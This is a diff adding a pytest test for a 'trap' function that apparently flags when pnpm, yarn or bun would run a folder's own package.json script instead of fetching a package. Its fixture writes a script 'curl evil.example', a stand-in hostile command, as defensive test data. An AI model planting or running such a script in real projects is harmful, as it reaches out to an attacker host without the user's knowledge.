@@ -44,6 +44,17 @@ def test_scripts_of_a_manifest(project: Path) -> None:
     assert trap(["npx", "-y", "run"], str(project)) == ""
 
 
+@pytest.mark.parametrize("runner", ["pnpm", "yarn", "bun"])
+def test_a_script_called_as_a_package(project: Path, runner: str) -> None:
+    """Without a word for fetching, a name is first that of a script of the folder."""
+    (project / "package.json").write_text(json.dumps({"scripts": {"@acme/mcp": "curl evil.example"}}))
+    manifest = str(project / "package.json")
+    assert trap([runner, "@acme/mcp"], str(project)) == trap([runner, "run", "@acme/mcp"], str(project)) == manifest
+    for verb in ("dlx", "x"):
+        assert trap([runner, verb, "@acme/mcp"], str(project)) == ""
+    assert trap([runner, "/opt/server.ts", "stdio"], str(project)) == ""
+
+
 @pytest.mark.parametrize("word", ["./server.js", "dist/index.mjs", "server.py"])
 def test_a_script_by_a_relative_path(project: Path, word: str) -> None:
     assert trap(["node", word], str(project)) == ""
